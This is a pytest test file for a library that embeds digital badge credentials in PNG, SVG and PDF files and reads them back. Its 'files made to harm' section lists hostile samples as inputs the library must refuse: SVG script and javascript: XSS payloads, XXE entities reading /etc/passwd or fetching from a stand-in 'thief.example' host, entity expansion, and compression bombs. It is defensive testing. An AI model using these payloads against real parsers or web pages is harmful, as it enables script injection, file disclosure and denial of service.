"""Credentials in pictures and documents: the files of 1EdTech, our own way there and back, and files made to harm."""

import json
import struct
import zlib
from collections.abc import Callable
from io import BytesIO

import pytest
import typst
from hypothesis import given, settings
from hypothesis import strategies as st
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject

from munera.engines.attestation.baking import bake_pdf, bake_png, bake_svg, unbake
from munera.engines.attestation.baking.attachments import MAX_NAMES
from munera.engines.attestation.baking.held import MAX_FILE
from munera.engines.attestation.baking.pdf import MAX_PDF
from munera.engines.attestation.baking.png import KEYWORD as PNG_KEYWORD
from munera.engines.attestation.baking.png import MAX_CHUNKS
from munera.engines.attestation.baking.png import SIGNATURE as PNG_SIGNATURE
from munera.engines.attestation.baking.svg import MAX_ATTRIBUTES, MAX_SVG, MAX_TAGS
from munera.engines.attestation.canonical import MAX_BYTES, canonical
from munera.engines.attestation.errors import AttestationError
from tests.engines.attestation.carriers import CREDENTIAL, baked_chunk, chunk, packed, pdf, png, with_chunks
from tests.engines.attestation.published import vectors

TOKEN = b"eyJhbGciOiJFUzI1NiJ9.eyJhIjoxfQ.c2ln"
DISCLOSED = TOKEN + b"~WyJzYWx0IiwgIm5hbWUiLCAxXQ~"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><circle r="4"/></svg>'


NAMING = [
    b"<< /Type /Catalog /Pages 5 0 R /Names << /EmbeddedFiles 2 0 R >> >>",
    b"<< /Kids [3 0 R] >>",
    b"<< /Limits [(a \\(1) (a (1\\)))] /Names [(a (1\\))) 4 0 R] >>",
    b"<< /Type /Filespec /F (a) /UF <FEFF0061> % a remark\n/EF << /F 100 0 R >> >>",
    b"<< /Type /Pages /Kids [] /Count 0 >>",
]


def refusal(call: Callable[[], object]) -> str:
    with pytest.raises(AttestationError) as caught:
        call()
    return caught.value.code


BAKERS = [(png, bake_png), (lambda: SVG, bake_svg), (pdf, bake_pdf)]


# What others baked


@pytest.mark.parametrize("kind", ["png", "svg"])
def test_the_pictures_of_1edtech_give_their_credentials_back(kind: str, tally: Callable[..., None]) -> None:
    folder = vectors("open-badges-3")
    found = {path.name: unbake(path.read_bytes()) for path in sorted(folder.glob(f"*.{kind}"))}

    assert [len(held) for held in found.values()] == [1, 1, 1]
    assert json.loads(found[f"simple-json.{kind}"][0])["id"] == "http://example.com/credentials/3527"
    for name in (f"simple-jwt.{kind}", f"simple-jwt_v1.{kind}"):
        assert found[name][0].startswith(b"eyJhbGciOiJSUzI1NiIsImp3ayI6")
        assert found[name][0].count(b".") == 2
    tally("Open Badges 3.0 pictures", accepted=len(found))


# There and back


@pytest.mark.parametrize("data", [CREDENTIAL, TOKEN, DISCLOSED], ids=["json", "jwt", "sd-jwt"])
@pytest.mark.parametrize(("picture", "bake"), BAKERS, ids=["png", "svg", "pdf"])
def test_what_was_baked_comes_out_byte_for_byte(
    picture: Callable[[], bytes], bake: Callable[[bytes, bytes], bytes], data: bytes
) -> None:
    assert unbake(picture()) == []
    assert unbake(bake(picture(), data)) == [data]


@settings(deadline=None, max_examples=50)
@given(
    st.dictionaries(
        st.text(st.characters(exclude_categories=["Cs"])), st.text(st.characters(exclude_categories=["Cs"]))
    )
)
def test_any_credential_survives_a_png(members: dict[str, str]) -> None:
    data = canonical(members)

    assert unbake(bake_png(png(), data)) == [data]


@settings(deadline=None, max_examples=50)
@given(st.dictionaries(st.text(), st.text()))
def test_any_credential_survives_an_svg_or_is_refused(members: dict[str, str]) -> None:
    """XML has no way to write U+FFFE and U+FFFF, not even escaped."""
    data = canonical(members)
    if "\ufffe" in data.decode() or "\uffff" in data.decode():
        assert refusal(lambda: bake_svg(SVG, data)) == "not-a-credential"
    else:
        assert unbake(bake_svg(SVG, data)) == [data]


@pytest.mark.parametrize("character", ["\ufffe", "\uffff"])
def test_a_character_that_xml_cannot_hold_is_refused(character: str) -> None:
    data = canonical({"name": character})

    assert refusal(lambda: bake_svg(SVG, data)) == "not-a-credential"
    assert unbake(bake_png(png(), data)) == [data]


def test_the_picture_stays_the_same_picture() -> None:
    assert bake_png(png(), CREDENTIAL).replace(baked_chunk(), b"") == png()
    assert b'<circle r="4"/>' in bake_svg(SVG, CREDENTIAL)


def test_a_document_says_what_its_attachment_is() -> None:
    reader = PdfReader(BytesIO(bake_pdf(pdf(), CREDENTIAL)))
    (attached,) = reader.attachment_list

    assert (attached.name, attached.subtype) == ("openbadgecredential.json", "/application/vc")
    assert attached.associated_file_relationship == "/Data"
    assert len(reader.root_object["/AF"]) == 1
    assert len(reader.pages) == 1


@pytest.mark.parametrize(("picture", "bake"), BAKERS, ids=["png", "svg", "pdf"])
def test_only_one_credential_and_nothing_else_is_baked(
    picture: Callable[[], bytes], bake: Callable[[bytes, bytes], bytes]
) -> None:
    assert refusal(lambda: bake(bake(picture(), CREDENTIAL), CREDENTIAL)) == "already-baked"
    for data in (b"", b"hello", b"[1]", b" {}", b"{}\n", b"\xff{}", b"a.b", b"{\xff}"):
        assert refusal(lambda d=data: bake(picture(), d)) == "not-a-credential"
    assert refusal(lambda: bake(picture(), b"{" + b" " * MAX_BYTES + b"}")) == "too-large"


def test_other_attachments_of_a_document_are_passed_over() -> None:
    document = pdf(invoice=b"<xml/>", notes=b"hello", badge=CREDENTIAL, token=TOKEN)

    assert sorted(unbake(document)) == sorted([CREDENTIAL, TOKEN])
    assert unbake(bake_pdf(pdf(notes=b"hello"), CREDENTIAL)) == [CREDENTIAL]


@pytest.mark.parametrize("predicted", [False, True])
def test_a_document_in_packed_form_gives_its_attachment_back(predicted: bool) -> None:
    document = packed(NAMING, streams={100: CREDENTIAL}, predicted=predicted)

    by_another = PdfReader(BytesIO(document), strict=True).attachments
    assert {content for held in by_another.values() for content in held} == {CREDENTIAL}
    assert unbake(document) == [CREDENTIAL]


def test_a_document_that_another_program_printed_gives_its_attachment_back() -> None:
    written = json.dumps(CREDENTIAL.decode(), ensure_ascii=False)
    source = f'#pdf.attach("a.json", bytes({written}), mime-type: "application/vc")\nA page.'

    assert unbake(typst.compile(source.encode())) == [CREDENTIAL]


def test_what_was_added_to_a_document_later_is_found_beside_the_rest() -> None:
    writer, document = PdfWriter(BytesIO(pdf(first=CREDENTIAL)), incremental=True), BytesIO()
    writer.add_attachment("second", TOKEN)
    writer.write(document)

    assert document.getvalue().count(b"startxref") == 2
    assert sorted(unbake(document.getvalue())) == sorted([CREDENTIAL, TOKEN])


# Files made to harm


@pytest.mark.parametrize("data", [b"", b"{}", b"GIF89a", TOKEN, b"\xff\xd8\xff\xe0", b"\x89PNG"])
def test_a_file_of_another_kind_is_named_so(data: bytes) -> None:
    assert refusal(lambda: unbake(data)) == "unknown-format"


def test_row_23_a_file_is_no_larger_than_a_picture_needs() -> None:
    assert refusal(lambda: unbake(PNG_SIGNATURE + bytes(MAX_FILE))) == "too-large"
    assert refusal(lambda: unbake(b"<svg>" + b" " * MAX_SVG)) == "too-large"
    assert refusal(lambda: unbake(b"%PDF-1.7" + b" " * MAX_PDF)) == "too-large"
    for inside in (b"<g/>" * MAX_TAGS, b"<g " + b"a='' " * (MAX_ATTRIBUTES + 1) + b"/>"):
        assert refusal(lambda i=inside: unbake(SVG.replace(b"<circle", i + b"<circle"))) == "too-large"
    assert refusal(lambda: unbake(with_chunks(*[chunk(b"teSt", b"")] * MAX_CHUNKS))) == "too-large"


def test_row_23_a_picture_with_two_credentials_has_none_that_counts() -> None:
    assert refusal(lambda: unbake(with_chunks(baked_chunk(), baked_chunk()))) == "several-credentials"
    assert refusal(lambda: unbake(with_chunks(baked_chunk(), baked_chunk(kind=b"tEXt")))) == "several-credentials"
    element = b'<c xmlns="https://purl.imsglobal.org/ob/v3p0"/>'.replace(b"<c ", b"<credential verify='a.b.c' ")
    assert refusal(lambda: unbake(SVG.replace(b"<circle", element * 2 + b"<circle"))) == "several-credentials"


def test_row_23_packed_text_unpacks_to_the_size_of_a_credential_and_no_further() -> None:
    largest, bomb = b"{" + b" " * (MAX_BYTES - 2) + b"}", b"{" + b" " * MAX_BYTES + b"}"

    assert unbake(with_chunks(baked_chunk(zlib.compress(largest), flags=b"\1\0"))) == [largest]
    assert refusal(lambda: unbake(with_chunks(baked_chunk(zlib.compress(bomb), flags=b"\1\0")))) == "too-large"
    assert refusal(lambda: unbake(with_chunks(baked_chunk(zlib.compress(bytes(10**8)), flags=b"\1\0")))) == "too-large"
    assert refusal(lambda: unbake(with_chunks(baked_chunk(bomb)))) == "too-large"


@pytest.mark.parametrize(
    ("chunks", "code"),
    [
        ([baked_chunk(flags=b"\2\0")], "bad-chunk"),
        ([baked_chunk(flags=b"\0\1")], "bad-chunk"),
        ([baked_chunk(b"no zlib", flags=b"\1\0")], "bad-chunk"),
        ([baked_chunk(zlib.compress(CREDENTIAL)[:-1], flags=b"\1\0")], "bad-chunk"),
        ([baked_chunk(zlib.compress(CREDENTIAL) + b"x", flags=b"\1\0")], "bad-chunk"),
        ([baked_chunk(kind=b"tEXt")], "bad-chunk"),
        ([baked_chunk(kind=b"zTXt")], "bad-chunk"),
        ([chunk(b"iTXt", PNG_KEYWORD)], "bad-chunk"),
        ([chunk(b"iTXt", PNG_KEYWORD + b"\0\0\0en{}xxx")], "bad-chunk"),
        ([baked_chunk()[:-1] + b"!"], "not-png"),
        ([chunk(b"IHDR", bytes(13))], "not-png"),
        ([struct.pack(">I4s", 2**31, b"iTXt")], "not-png"),
    ],
)
def test_row_23_a_damaged_or_strange_chunk_is_refused(chunks: list[bytes], code: str) -> None:
    assert refusal(lambda: unbake(with_chunks(*chunks))) == code


@pytest.mark.parametrize("end", [8, 20, 33, 60, -4])
def test_a_picture_that_ends_in_the_middle_is_refused(end: int) -> None:
    assert refusal(lambda: unbake(png()[:end])) == "not-png"
    assert refusal(lambda: bake_png(SVG, CREDENTIAL)) == "not-png"


@pytest.mark.parametrize(
    "inside",
    [
        b"<script>alert(1)</script>",
        b"<SCRIPT/>",
        b'<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>',
        b"<foreignObject><p/></foreignObject>",
        b'<circle onload="alert(1)"/>',
        b'<circle ONCLICK="alert(1)"/>',
        b'<a href="javascript:alert(1)"/>',
        b'<a href=" java&#x09;script:alert(1)"/>',
        b'<a x:href="JavaScript:alert(1)" xmlns:x="http://www.w3.org/1999/xlink"/>',
        b'<a href="data:text/html;base64,PHNjcmlwdD4="/>',
        b'<set attributeName="onclick" to="alert(1)"/>',
        b'<a><animate attributeName="xlink:href" values="javascript:alert(1)"/></a>',
        b'<animate attributeName="href" to="#"/>',
        b'<?xml-stylesheet href="https://thief.example/x.css"?>',
        b'<handler type="text/ecmascript">alert(1)</handler>',
    ],
)
def test_row_23_a_drawing_that_acts_is_refused(inside: bytes) -> None:
    drawing = SVG.replace(b"<circle", inside + b"<circle")

    assert refusal(lambda: unbake(drawing)) == "active"
    assert refusal(lambda: bake_svg(drawing, CREDENTIAL)) == "active"


@pytest.mark.parametrize(
    ("before", "code"),
    [
        (b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "entities"),
        (b'<!DOCTYPE svg [<!ENTITY x "ha"><!ENTITY y "&x;&x;">]>', "entities"),
        (b'<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://thief.example/x.dtd">%p;]>', "entities"),
        (b'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>', "entities"),
        (b'<?xml-stylesheet type="text/xsl" href="https://thief.example/x.xsl"?>', "active"),
        (b"<html><body/></html>", "not-svg"),
        (b"<!-- -- -->", "not-svg"),
    ],
)
def test_row_23_entities_and_foreign_sheets_before_a_drawing_are_refused(before: bytes, code: str) -> None:
    assert refusal(lambda: unbake(before + SVG)) == code


def test_row_23_entities_do_not_hide_in_another_encoding() -> None:
    hostile = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE svg [<!ENTITY x "ha">]>' + SVG.decode()

    assert refusal(lambda: bake_svg(hostile.encode("utf-16"), CREDENTIAL)) == "entities"
    assert refusal(lambda: unbake(hostile.encode("utf-16"))) == "unknown-format"
    # UTF-7 would spell the bracket in letters; it is read as what it is, UTF-8.
    assert refusal(lambda: unbake(b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-ENTITY' + SVG)) == "not-svg"


def test_a_plain_doctype_is_no_harm_and_nothing_is_fetched_for_it() -> None:
    doctype = b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'

    assert unbake(bake_svg(doctype + SVG, CREDENTIAL)) == [CREDENTIAL]
    assert refusal(lambda: unbake(doctype + SVG.replace(b"<circle", b"&unknown;<circle"))) == "active"


@pytest.mark.parametrize(
    "element",
    [
        b"<o:credential/>",
        b'<o:credential verify="a.b.c">{}</o:credential>',
        b"<o:credential><o:inner/>{}</o:credential>",
    ],
)
def test_an_element_without_one_plain_credential_is_refused(element: bytes) -> None:
    named = element.replace(b"<o:credential", b'<o:credential xmlns:o="https://purl.imsglobal.org/ob/v3p0"', 1)

    assert refusal(lambda: unbake(SVG.replace(b"<circle", named + b"<circle"))) == "bad-chunk"


def test_row_23_an_attachment_unpacks_to_the_size_of_a_credential_and_no_further() -> None:
    writer, document = PdfWriter(clone_from=BytesIO(pdf(bomb=b""))), BytesIO()
    (attached,) = writer.attachment_list
    stream = DecodedStreamObject()
    stream.set_data(bytes(50 * MAX_BYTES))
    packed = writer._add_object(stream.flate_encode(9))
    attached.pdf_object[NameObject("/EF")] = DictionaryObject({NameObject("/F"): packed})
    writer.write(document)

    assert len(document.getvalue()) < 30_000
    assert refusal(lambda: unbake(document.getvalue())) == "too-large"
    assert refusal(lambda: unbake(pdf(large=b"{" + b" " * MAX_BYTES + b"}"))) == "too-large"


def test_row_23_a_document_full_of_attachments_or_with_a_tree_in_a_circle_is_refused() -> None:
    writer, document = PdfWriter(), BytesIO()
    writer.add_blank_page(10, 10)
    tree = DictionaryObject()
    reference = writer._add_object(tree)
    tree[NameObject("/Kids")] = ArrayObject([reference])
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/EmbeddedFiles"): reference})
    writer.write(document)

    assert refusal(lambda: unbake(document.getvalue())) == "too-large"
    assert refusal(lambda: unbake(pdf(**{f"a{n}": CREDENTIAL for n in range(MAX_NAMES)}))) == "too-large"


MANY = 700_000
LISTS = (b"[" + b"1 " * 4_000 + b"]") * 200


@pytest.mark.parametrize(
    "filling",
    [
        b" " * MANY + b"/X 1",
        b"%" + b"x" * MANY + b"\n/X 1",
        b"/" + b"x" * MANY + b" 1",
        b"/X (" + b"x" * MANY + b")",
        b"/X (" + b"(x)" * (MANY // 4) + b")",
        b"/X <" + b"41" * (MANY // 2) + b">",
        b"/X " + b"9" * MANY,
        b"/X [" + LISTS + b"]",
    ],
    ids=["spaces", "a remark", "a name", "a text", "texts in a text", "hexadecimal", "a number", "lists of lists"],
)
def test_row_23_a_document_ends_where_its_steps_are_used_up(filling: bytes) -> None:
    """A kilobyte of such a file, unpacked, cost seconds as long as each byte of it was read in Python."""
    catalogue = b"<< /Type /Catalog " + filling + b" >>"
    small = packed([catalogue])
    plain = b"%PDF-1.7\n1 0 obj\n" + catalogue + b"\nendobj\n"
    table = b"xref\n0 2\n0000000000 65535 f \n0000000009 00000 n \n"
    large = plain + table + b"trailer\n<< /Root 1 0 R /Size 2 >>\nstartxref\n%d\n%%%%EOF" % len(plain)

    assert len(small) < 8_000
    assert refusal(lambda: unbake(small)) == "too-large"
    assert refusal(lambda: unbake(large)) == "too-large"


def test_row_23_a_packed_document_that_lies_about_itself_is_refused() -> None:
    whole = packed(NAMING, streams={100: CREDENTIAL})
    nested = b"[" * 100 + b"]" * 100
    lies = [
        whole.replace(b"/W [1 4 1]", b"/W [1 4 9]"),
        whole.replace(b"/W [1 4 1]", b"/W [1 1]  "),
        whole.replace(b"/Type /XRef", b"/Type /Xxxx"),
        whole.replace(b"/Type /ObjStm", b"/Type /Objxxx"),
        whole.replace(b"/Index [1 1", b"/Index [1 1 1"),
        whole.replace(b"/Filter [/FlateDecode]", b"/Filter [/LZWDecode]  "),
        whole.replace(b"/Filter [/FlateDecode]", b"/Filter [/FlateDecode /FlateDecode]"),
        whole.replace(b"90 0 obj", b"91 0 obj"),
        whole.replace(b"/Root 1 0 R", b"/Root 8 0 R"),
        whole.replace(b"/Size 200", b"/Prev %d" % whole.index(b"99 0 obj")),
        whole.replace(b"/Type /ObjStm", b"/Length 90 0 R /Type /ObjStm").replace(b"/Length ", b"/Lengxx ", 2),
        packed([b"<< /Type /Catalog /X " + nested + b" >>"]),
        packed([b"2 0 R", b"1 0 R"]),
        packed([b"%d 0 R" % number for number in range(2, 60)]),
    ]

    assert [refusal(lambda d=document: unbake(d)) for document in lies] == ["not-pdf"] * len(lies)


@given(st.floats(0, 0.999), st.binary(max_size=6), st.booleans())
def test_a_document_changed_anywhere_is_read_or_refused(where: float, instead: bytes, is_packed: bool) -> None:
    whole = packed(NAMING, streams={100: CREDENTIAL}, predicted=True) if is_packed else pdf(a=CREDENTIAL)
    at = int(where * len(whole))
    try:
        held = unbake(whole[:at] + instead + whole[at + len(instead) :])
    except AttestationError:
        return
    assert len(held) <= 1


def test_a_locked_or_broken_document_is_refused() -> None:
    writer, locked = PdfWriter(clone_from=BytesIO(pdf(a=CREDENTIAL))), BytesIO()
    writer.encrypt("secret", algorithm="AES-256")
    writer.write(locked)

    assert refusal(lambda: unbake(locked.getvalue())) == "encrypted"
    assert refusal(lambda: unbake(b"%PDF-1.7\n")) == "not-pdf"
    assert refusal(lambda: unbake(pdf()[:-60])) == "not-pdf"
    assert refusal(lambda: unbake(pdf() + bytes(2_000))) == "not-pdf"
    assert refusal(lambda: bake_pdf(b"%PDF-1.7 nothing", CREDENTIAL)) == "not-pdf"


def test_xml_that_is_no_drawing_is_refused() -> None:
    for other in (b"<html/>", b"<svg/>", b'<svg xmlns="https://svg.example"/>', b"<"):
        assert refusal(lambda o=other: unbake(o)) == "not-svg"


def test_a_document_that_can_be_read_but_not_rewritten_is_refused() -> None:
    """A catalogue that says it has pages and has none."""
    body = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 9 0 R >>\nendobj\n"
    table = b"xref\n0 2\n0000000000 65535 f \n0000000009 00000 n \n"
    document = body + table + b"trailer\n<< /Root 1 0 R /Size 2 >>\nstartxref\n%d\n%%%%EOF" % len(body)

    assert unbake(document) == []
    assert refusal(lambda: bake_pdf(document, CREDENTIAL)) == "not-pdf"


def test_an_attachment_that_is_no_stream_is_passed_over() -> None:
    writer, document = PdfWriter(clone_from=BytesIO(pdf(a=CREDENTIAL))), BytesIO()
    attached = next(iter(writer.attachment_list))
    attached.pdf_object[NameObject("/EF")] = DictionaryObject({NameObject("/F"): ArrayObject()})
    writer.write(document)

    assert unbake(document.getvalue()) == []
